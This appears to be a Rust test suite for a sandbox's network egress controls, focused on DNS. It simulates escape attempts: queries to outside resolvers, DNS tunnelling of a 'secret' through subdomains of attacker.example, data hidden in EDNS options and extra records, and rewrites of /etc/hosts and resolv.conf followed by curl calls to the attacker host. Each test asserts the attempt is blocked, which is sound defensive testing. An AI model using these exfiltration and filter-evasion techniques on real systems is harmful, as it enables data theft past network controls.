//! Attempts with DNS: to ask somebody else, or to say something by asking.

use super::everywhere;
use k8e_e2e::internet::{CDN, ELSEWHERE, RESOLVER};
use serde_json::json;

#[test]
fn another_resolver_over_udp() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for server in '{RESOLVER}', '45.10.0.53', '10.98.0.1', '127.0.0.53':\n    \
             for name in 'good.example', 'k8e-secret.attacker.example':\n        \
             if ask_udp(server, question(name)): escaped(server)"
        ));
        inside.assert_not_asked();
        inside.assert_denied(
            json!({ "protocol": "udp", "address": RESOLVER.to_string(), "port": 53 }),
        );
    });
}

#[test]
fn another_resolver_over_tcp() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for server in '{RESOLVER}', '45.10.0.53', '{CDN}':\n    \
             if ask_tcp(server, question('k8e-secret.attacker.example')): escaped(server)"
        ));
        inside.assert_not_asked();
        inside.assert_denied(
            json!({ "protocol": "tcp", "address": RESOLVER.to_string(), "port": 53 }),
        );
    });
}

#[test]
fn another_resolver_over_tls() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for server in '{RESOLVER}', '{CDN}', GATEWAY:\n    \
             for name in '', 'good.example', 'dns.example':\n        \
             for port in 853, 443:\n            \
             if (server, port, name) != ('{CDN}', 443, 'good.example') and ask_tcp(server, question('k8e-secret.attacker.example'), port=port, wrap=name): escaped(server, port, name)"
        ));
        inside.assert_not_reached(RESOLVER);
        inside.assert_denied(json!({ "address": RESOLVER.to_string(), "port": 853 }));
    });
}

#[test]
fn another_resolver_over_https() {
    everywhere("good.example", |inside| {
        inside.internet.zone().address("dns.example", &[RESOLVER]);
        let query = "dns-query?dns=AAABAAABAAAAAAAAA2s4ZQ";
        for url in [
            format!("https://dns.example/{query}"),
            format!("https://{RESOLVER}/{query}"),
        ] {
            assert_eq!(inside.curl(&format!("-k '{url}'")), None);
            let at = format!("-k --resolve dns.example:443:{RESOLVER} '{url}'");
            assert_eq!(inside.curl(&at), None);
        }
        inside.assert_not_reached(RESOLVER);
    });
}

#[test]
fn a_tunnel_below_a_denied_name() {
    everywhere("good.example", |inside| {
        inside.tries(
            "for n in range(100):\n    \
             if resolve(f'k8e-secret-{n}.attacker.example'): escaped()\n\
             for n in range(20):\n    \
             ask_udp(GATEWAY, question(f'{n}.attacker.example')); ask_tcp(GATEWAY, question(f'k8e-secret-{n}.attacker.example', 16))\n\
             tried()",
        );
        inside.assert_not_asked();
        inside.assert_denied(json!({ "protocol": "dns", "name": "0.attacker.example" }));
    });
}

#[test]
fn a_tunnel_below_an_allowed_name() {
    // Whoever serves the zone of an allowed name would read it.
    everywhere("good.example", |inside| {
        inside.tries(
            "for n in range(100):\n    if resolve(f'k8e-secret-{n}.good.example'): escaped()\ntried()",
        );
        inside.assert_not_asked();
        inside.assert_denied(json!({ "protocol": "dns", "name": "k8e-secret-0.good.example" }));
    });
}

#[test]
fn a_tunnel_below_an_allowed_suffix() {
    // These names are allowed. How much can be said in a time is bounded, and in what words.
    const QUESTIONS: usize = 3000;
    everywhere("*.good.example,good.example", |inside| {
        let ran = inside.python(&format!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             begun = time.time()\n\
             for n in range({QUESTIONS}):\n    \
             s.sendto(question(f'n{{n}}.good.example', 16 if n % 10 == 0 else 1, number=n), (GATEWAY, 53)); time.sleep(0.0005)\n\
             print('took', time.time() - begun)"
        ));
        inside.internet.settle();
        let arrived = inside.internet.log().queries();
        assert!(arrived.iter().all(|query| query.kind == 1));
        assert!(
            arrived.len() < QUESTIONS / 3,
            "{} arrived: {}",
            arrived.len(),
            ran.out()
        );
        for query in &arrived {
            inside.may_name(&query.name);
        }
        // It is for a time only.
        std::thread::sleep(std::time::Duration::from_secs(2));
    });
}

#[test]
fn other_kinds_of_records() {
    everywhere("good.example", |inside| {
        // AAAA, TXT, NULL, MX, SRV, HTTPS, ANY, AXFR, and one that nobody knows.
        inside.tries(
            "for kind in 28, 16, 10, 15, 33, 65, 255, 252, 65280:\n    \
             for ask in ask_udp, ask_tcp:\n        \
             answer = ask(GATEWAY, question('good.example', kind))\n        \
             if answers(answer): escaped(kind, answer)\n\
             for kind in 16, 28: ask_udp(GATEWAY, question('k8e-secret.attacker.example', kind))",
        );
        inside.assert_not_asked();
    });
}

#[test]
fn stowaways_in_a_question() {
    everywhere("good.example", |inside| {
        // Options, more records, bytes behind the message; and capitals, a bit each.
        inside.tries(
            "opt = lambda data: b'\\0' + struct.pack('>HHIH', 41, 4096, 0, len(data)) + data\n\
             option = struct.pack('>HH', 65001, len(SECRET)) + SECRET\n\
             def with_counts(message, *counts): return message[:4] + struct.pack('>4H', *counts) + message[12:]\n\
             record = b'\\x0ak8e-secret\\0' + struct.pack('>HHIH', 16, 1, 0, 11) + b'\\x0a' + SECRET\n\
             plain = question('good.example')\n\
             for message in [with_counts(plain + opt(option), 1, 0, 0, 1), plain + SECRET, with_counts(plain + record, 1, 1, 0, 0),\n             \
             with_counts(plain + record, 1, 0, 1, 0), with_counts(plain + question('k8e-secret.good.example')[12:], 2, 0, 0, 0),\n             \
             question('gOoD.eXaMpLe', number=0x6b38), question('GOOD.EXAMPLE')]:\n    \
             ask_udp(GATEWAY, message); ask_tcp(GATEWAY, message)",
        );
        for query in inside.internet.log().queries() {
            assert_eq!(query.name, "good.example", "{query:?}");
        }
    });
}

#[test]
fn messages_that_are_no_question() {
    everywhere("good.example", |inside| {
        inside.tries(
            "loop = b'\\xc0\\x0c'; long = b'\\x3f' + b'k' * 63\n\
             for message in [b'', b'x', b'\\0' * 12, b'\\xff' * 512, question(loop), question(long * 5 + b'\\0'), question(b'\\x0ak8e-secret' * 2 + b'\\xff'),\n             \
             question('good.example', flags=0x8180), question('good.example', flags=0x2900), question('good.example', flags=0x2100),\n             \
             question('version.bind', 16, cls=3), question('good.example', cls=255), question('good.example')[:-3], question(b'\\0', 2),\n             \
             question('good.example')[:4] + b'\\xff\\xff' + question('good.example')[6:], os.urandom(2000)]:\n    \
             for ask in ask_udp, ask_tcp:\n        \
             if answers(ask(GATEWAY, message, wait=0.2)): escaped(message[:100])",
        );
        for query in inside.internet.log().queries() {
            assert_eq!(query.name, "good.example", "{query:?}");
        }
    });
}

#[test]
fn a_table_of_hosts_of_ones_own() {
    everywhere("good.example", |inside| {
        inside.tries_sh(&format!(
            "echo tried; cp /etc/hosts /tmp/hosts\n\
             printf '{CDN} bad.example\\n{ELSEWHERE} good.example elsewhere.example\\n' >> /etc/hosts || exit 1\n\
             for url in http://bad.example https://bad.example http://good.example https://good.example https://elsewhere.example; do\n\
             curl -sfk --max-time 5 $url/k8e-secret && echo ESCAPED $url; done\n\
             cp /tmp/hosts /etc/hosts"
        ));
        inside.assert_denied(json!({ "name": "bad.example", "address": CDN.to_string() }));
        let expected = json!({ "name": "good.example", "address": ELSEWHERE.to_string(), "reason": "wrong_address" });
        inside.assert_denied(expected);
    });
}

#[test]
fn a_resolver_of_ones_own_choice() {
    everywhere("good.example", |inside| {
        inside.tries_sh(&format!(
            "echo tried; cp /etc/resolv.conf /tmp/resolv.conf\n\
             printf 'nameserver {RESOLVER}\\noptions timeout:1 attempts:1\\n' > /etc/resolv.conf || exit 1\n\
             curl -sfk --max-time 5 https://k8e-secret.attacker.example/ && echo ESCAPED\n\
             printf 'nameserver {RESOLVER}\\noptions timeout:1 attempts:1 use-vc\\n' > /etc/resolv.conf\n\
             curl -sfk --max-time 5 https://k8e-secret.attacker.example/ && echo ESCAPED\n\
             cp /tmp/resolv.conf /etc/resolv.conf"
        ));
        inside.assert_not_reached(RESOLVER);
        inside.assert_not_asked();
    });
}
